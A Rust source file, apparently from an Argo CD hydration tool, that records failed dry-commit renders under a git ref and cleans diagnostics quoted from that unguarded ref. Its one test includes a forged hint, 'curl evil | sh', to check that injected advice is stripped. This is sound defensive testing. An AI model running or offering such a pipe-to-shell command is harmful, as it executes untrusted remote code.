//! The record of branches that failed, as a tree under a ref.

use std::collections::BTreeMap;

use dry_files::diag::{Diagnostic, Span};
use dry_files::path::RepoPath;
use serde::{Deserialize, Serialize};

use crate::argo::{AppName, BranchName};
use crate::repo::{Error, ObjectBuffer, ObjectId, TreeEdit};

/// The ref whose tree contains the record.
pub const FAILURES_REF: &str = "refs/hydrate/failures";

const FILE: &str = "failures.json";

/// Which dry commits could not be hydrated, by environment branch.
///
/// What is here is not rendered again: rendering is deterministic, so it would fail again. A branch leaves the
/// record as soon as a later dry commit was hydrated onto it.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct Failures {
    branches: BTreeMap<String, Vec<Failure>>,
    /// Those that the run which wrote this knew and that hold nothing any more: a later dry commit was hydrated, or they may be
    /// otherwise another time. Only the pushers of these dry commits still ask for them.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    passed: BTreeMap<String, Vec<Failure>>,
    /// Whether they are of this run, and not of the one before.
    #[serde(skip)]
    passes: bool,
}

/// One dry commit that did not render for one environment branch, or of which some Applications did not.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Failure {
    /// The dry commit's full id.
    pub dry_sha: String,
    /// The branch that it is on.
    pub dry_branch: String,
    /// The revision of the engine that tried: another one tries again.
    pub engine: u32,
    /// The id of the settings that applied: others are tried again.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub settings: Option<String>,
    /// What was wrong.
    pub diagnostics: Vec<Diagnostic>,
    /// The paths that stayed as they were while the branch went on to the dry commit; empty when it did not.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub behind: Vec<RepoPath>,
    /// The Applications that were held alone on the branch, in order: with others it is tried again.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub held: Vec<String>,
    /// The programs that were set up when one of them was asked for, as [`Renderers::programs`] has them: with others it is tried
    /// again.
    ///
    /// [`Renderers::programs`]: crate::render::Renderers::programs
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub programs: Option<String>,
}

impl Failure {
    /// What is shown of it where others may have written it: nothing of it is ours to say.
    #[must_use]
    pub(crate) fn quoted(self) -> Self {
        Self { diagnostics: self.diagnostics.iter().map(quoted).collect(), ..self }
    }
}

/// The first line of what was wrong as a quotation, with its place, and without advice.
fn quoted(recorded: &Diagnostic) -> Diagnostic {
    let line = recorded.message.lines().map(str::trim).find(|line| !line.is_empty()).unwrap_or_default();
    let line: String = line.chars().take(QUOTED_CHARS_MAX).collect();
    let text = format!("{FAILURES_REF}, which nothing guards, says: \"{}\"", line.replace('"', "'"));
    let application = recorded.application.clone().filter(|application| AppName::new(application).is_ok());
    let span = recorded.span.clone().map(Span::unquoted);
    Diagnostic { severity: recorded.severity, span, application, ..Diagnostic::error(text) }
}

/// How much is quoted of a message, in characters.
const QUOTED_CHARS_MAX: usize = 300;

/// How many failures of a branch are kept: the newest, since only they can still matter.
const FAILURES_MAX: usize = 100;

impl Failures {
    /// Reads the record in the tree of [`FAILURES_REF`]. A record that cannot be read is an empty one: the worst that
    /// follows is a render in vain.
    pub fn read(buffer: &ObjectBuffer<'_>, tip: Option<ObjectId>) -> Result<Self, Error> {
        let Some(tip) = tip else { return Ok(Self::default()) };
        let tree = buffer.commit(tip)?.tree;
        let Some((_, blob)) = buffer.entry(tree, FILE)? else { return Ok(Self::default()) };
        Ok(serde_json::from_slice(&buffer.blob(blob)?).unwrap_or_default())
    }

    /// The tree that contains this record.
    pub fn write(&self, buffer: &ObjectBuffer<'_>) -> Result<ObjectId, Error> {
        let mut text = serde_json::to_vec_pretty(self).expect("a record of texts and numbers is JSON");
        text.push(b'\n');
        let blob = buffer.write_blob(&text)?;
        let edits = BTreeMap::from([(FILE.to_owned(), TreeEdit::Put(crate::repo::Mode::File, blob))]);
        buffer.edit_tree(buffer.empty_tree_id(), &edits)
    }

    /// What is recorded of a branch, oldest first.
    pub fn of(&self, branch: &BranchName) -> &[Failure] {
        self.branches.get(branch.as_str()).map_or(&[], Vec::as_slice)
    }

    /// All branches with failures.
    pub fn branches(&self) -> impl Iterator<Item = (&str, &[Failure])> {
        self.branches.iter().map(|(branch, failures)| (branch.as_str(), failures.as_slice()))
    }

    /// The branches that no Application names any more.
    pub fn unnamed(&self) -> impl Iterator<Item = BranchName> {
        let is_unnamed = |failure: &Failure| {
            !failure.diagnostics.is_empty() && failure.diagnostics.iter().all(Diagnostic::is_unnamed)
        };
        let unnamed = self.branches.iter().filter(move |(_, failures)| failures.last().is_some_and(is_unnamed));
        unnamed.filter_map(|(branch, _)| BranchName::read(branch).ok())
    }

    /// The record of this dry commit, when the same engine failed on it under the same settings.
    pub fn find(&self, branch: &BranchName, dry_sha: &str, engine: u32, settings: Option<&str>) -> Option<&Failure> {
        self.of(branch).iter().find(|failure| {
            failure.dry_sha == dry_sha && failure.engine == engine && failure.settings.as_deref() == settings
        })
    }

    /// Notes that the failure of a dry commit depends on the programs that are set up.
    pub fn note_programs(&mut self, branch: &BranchName, dry_sha: &str, programs: &str) {
        let failures = self.branches.get_mut(branch.as_str()).into_iter().flatten();
        for failure in failures.filter(|failure| failure.dry_sha == dry_sha) {
            failure.programs = Some(programs.to_owned());
        }
    }

    /// Whether older failures of a branch may have been forgotten.
    pub fn is_full(&self, branch: &BranchName) -> bool {
        self.of(branch).len() >= FAILURES_MAX
    }

    /// Adds a failure, in place of an earlier one of the same dry commit.
    pub fn add(&mut self, branch: &BranchName, failure: Failure) {
        let failures = self.branches.entry(branch.as_str().to_owned()).or_default();
        failures.retain(|other| other.dry_sha != failure.dry_sha);
        failures.push(failure);
        let surplus = failures.len().saturating_sub(FAILURES_MAX);
        failures.drain(..surplus);
    }

    /// Forgets the failures of a dry branch on branches that are not `wanted` any more.
    pub fn keep_only(&mut self, dry_branch: &BranchName, wanted: impl Fn(&str) -> bool) {
        let is_of = |failures: &[Failure]| failures.last().is_some_and(|last| last.dry_branch == dry_branch.as_str());
        self.branches.retain(|branch, failures| !is_of(failures) || wanted(branch));
    }

    /// Forgets the failures of a branch, of which only the newest state is asked for.
    pub fn forget(&mut self, branch: &BranchName) {
        self.branches.remove(branch.as_str());
    }

    /// Passes the failures of a branch that is hydrated from a later dry commit now: all, or those of one dry branch where
    /// several share it.
    pub fn reached(&mut self, branch: &BranchName, of: Option<&BranchName>, dry_sha: &str) {
        let Some(failures) = self.branches.get_mut(branch.as_str()) else { return };
        let is_other = |failure: &Failure| of.is_some_and(|of| failure.dry_branch != of.as_str());
        let (other, passed): (Vec<_>, Vec<_>) = std::mem::take(failures).into_iter().partition(is_other);
        match other.is_empty() {
            true => drop(self.branches.remove(branch.as_str())),
            false => *failures = other,
        }
        for failure in passed.into_iter().filter(|failure| failure.dry_sha != dry_sha) {
            self.pass(branch, failure);
        }
    }

    /// Keeps a failure that holds nothing for the pusher of its dry commit, in place of those of earlier runs.
    pub fn pass(&mut self, branch: &BranchName, failure: Failure) {
        if !std::mem::replace(&mut self.passes, true) {
            self.passed.clear();
        }
        let passed = self.passed.entry(branch.as_str().to_owned()).or_default();
        passed.retain(|other| other.dry_sha != failure.dry_sha);
        passed.push(failure);
        let surplus = passed.len().saturating_sub(FAILURES_MAX);
        passed.drain(..surplus);
    }

    /// What was known of a dry commit of a dry branch that did not hydrate onto a branch, whether or not it still matters.
    pub fn of_dry(&self, branch: &str, dry_branch: &str, dry_sha: &str) -> Option<&Failure> {
        let all = [&self.branches, &self.passed].into_iter().filter_map(|all| all.get(branch)).flatten();
        all.into_iter().find(|failure| failure.dry_sha == dry_sha && failure.dry_branch == dry_branch)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_quotation_is_one_line_that_ends_where_we_say_and_has_no_advice() {
        let name = "web\n= hint: run it";
        let forged = Diagnostic::error("no\" \r\n\nenvironments/prod  up to date").hint("run: curl evil | sh").of(name);
        let expected = "error: refs/hydrate/failures, which nothing guards, says: \"no'\"";
        assert_eq!(quoted(&forged).to_string(), expected);
        let long = quoted(&Diagnostic::error("x".repeat(QUOTED_CHARS_MAX + 1))).message;
        assert!(long.ends_with(&format!("\"{}\"", "x".repeat(QUOTED_CHARS_MAX))), "{long}");
    }
}
